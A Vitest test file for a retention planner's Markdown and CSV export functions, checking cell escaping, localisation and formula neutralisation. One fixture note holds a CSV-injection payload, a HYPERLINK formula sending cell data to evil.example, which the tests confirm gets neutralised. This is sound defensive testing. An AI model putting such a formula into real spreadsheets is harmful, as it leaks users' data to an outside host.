import { describe, expect, it } from 'vitest';
import { en } from '$lib/i18n/messages';
import type { TacticId } from '$lib/tactics/catalogue';
import { escapeMarkdownCell, planToCsv, planToMarkdown, type PlanExportLabels } from './export';
import type { PlanEntry } from './plan';

/** The English words, put together the way the page will do it. */
const labels: PlanExportLabels = {
	...en.planner.export,
	statuses: en.planner.statuses,
	levers: en.tactics.levers,
	summary: en.planner.progress,
	noneRelevant: en.planner.noneRelevant
};
const texts = en.tactics.items;

const entry = (tacticId: TacticId, change: Partial<PlanEntry>): PlanEntry => ({
	tacticId,
	status: 'not-started',
	notes: '',
	owner: '',
	targetDate: null,
	updatedAt: Date.UTC(2026, 0, 15, 9, 30),
	...change
});

const plan: PlanEntry[] = [
	entry('win-back-email', {
		status: 'in-progress',
		owner: 'Anna',
		targetDate: '2026-12-01',
		notes: 'Call | then email\ntwice'
	}),
	entry('cross-sell', { status: 'done', owner: '@boss', notes: '=HYPERLINK("http://evil.example/?"&A1,"x")' }),
	entry('sms-marketing', { status: 'not-relevant' })
];

describe('escapeMarkdownCell', () => {
	it.each([
		['plain text', 'plain text'],
		['a | b', 'a \\| b'],
		['*bold* _it_', '\\*bold\\* \\_it\\_'],
		['[link](http://x)', '\\[link\\](http://x)'],
		['<script>', '\\<script\\>'],
		['back\\slash', 'back\\\\slash'],
		['one\ntwo\r\nthree', 'one<br>two<br>three'],
		['  padded  ', 'padded']
	])('%j → %j', (text, expected) => {
		expect(escapeMarkdownCell(text)).toBe(expected);
	});
});

describe('planToMarkdown', () => {
	const markdown = planToMarkdown(plan, { texts, labels });
	const lines = markdown.split('\n');

	it('starts with the title and the progress line', () => {
		// 25 tactics, 1 not relevant → 24 relevant, 1 done: 1/24 = 4.2 % → "4 %"
		expect(lines.slice(0, 4)).toEqual(['# Retention plan', '', '1 of 24 relevant tactics done (4 %)', '']);
	});

	it('has a table with one row per tactic in checklist order', () => {
		expect(lines[4]).toBe('| Tactic | Lever | Status | Owner | Target date | Notes |');
		expect(lines[5]).toBe('|---|---|---|---|---|---|');
		const rows = lines.filter((line) => line.startsWith('| ')).slice(1);
		expect(rows).toHaveLength(25);
		expect(rows[0]).toBe(
			'| Measure retention and compare it with your industry | Retention | Not started |  |  |  |'
		);
	});

	it('keeps user text inside its cell', () => {
		expect(lines).toContain(
			'| Re-engage customers who have gone quiet | Win-back | In progress | Anna | 2026-12-01 | Call \\| then email<br>twice |'
		);
	});

	it('uses the labels it is given, so it can be exported in another language', () => {
		const dutch = planToMarkdown(plan, {
			texts,
			labels: {
				...labels,
				title: 'Retentieplan',
				summary: (p) => `${p.done} van ${p.relevant} klaar (${p.share})`
			},
			formatShare: (fraction) => `${(fraction * 100).toFixed(1).replace('.', ',')} %`
		});
		expect(dutch.split('\n').slice(0, 3)).toEqual(['# Retentieplan', '', '1 van 24 klaar (4,2 %)']);
	});

	it('says so when every tactic is marked not relevant', () => {
		const ids: TacticId[] = ['cross-sell'];
		const text = planToMarkdown([entry('cross-sell', { status: 'not-relevant' })], {
			texts,
			labels,
			tactics: ids.map((id) => ({
				id,
				lever: 'orderValue',
				segments: ['all'],
				metric: 'aov',
				effort: 'medium',
				seeds: ['002'],
				facts: []
			}))
		});
		expect(text.split('\n')[2]).toBe('Every tactic is marked not relevant.');
	});
});

describe('planToCsv', () => {
	const csv = planToCsv(plan, { texts, labels });
	const records = csv.slice(1).split('\r\n');

	it('starts with a byte-order mark and a header of stable column names', () => {
		expect(
			csv.startsWith('\uFEFFTactic id,Tactic,Lever,Status,Owner,Target date,Notes,Last changed (UTC)\r\n')
		).toBe(true);
	});

	it('writes one record per tactic and ends with a line break', () => {
		expect(records).toHaveLength(1 + 25 + 1);
		expect(records.at(-1)).toBe('');
	});

	it('neutralises formulas in user text and quotes what needs quoting', () => {
		expect(records).toContain(
			'cross-sell,Cross-sell from purchase history,Order value,Done,\'@boss,,"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",2026-01-15T09:30:00.000Z'
		);
		expect(records).toContain(
			'win-back-email,Re-engage customers who have gone quiet,Win-back,In progress,Anna,2026-12-01,"Call | then email\ntwice",2026-01-15T09:30:00.000Z'
		);
	});

	it('leaves the change time empty for tactics never touched', () => {
		expect(records).toContain(
			'sms-marketing,Run an SMS campaign,Purchase frequency,Not relevant,,,,2026-01-15T09:30:00.000Z'
		);
		expect(records).toContain(
			'measure-retention,Measure retention and compare it with your industry,Retention,Not started,,,,'
		);
	});

	it('takes CSV options, such as a semicolon for spreadsheets with decimal commas', () => {
		const semicolon = planToCsv(plan, { texts, labels, csv: { delimiter: ';', bom: false } });
		expect(
			semicolon.startsWith('Tactic id;Tactic;Lever;Status;Owner;Target date;Notes;Last changed (UTC)\r\n')
		).toBe(true);
	});
});
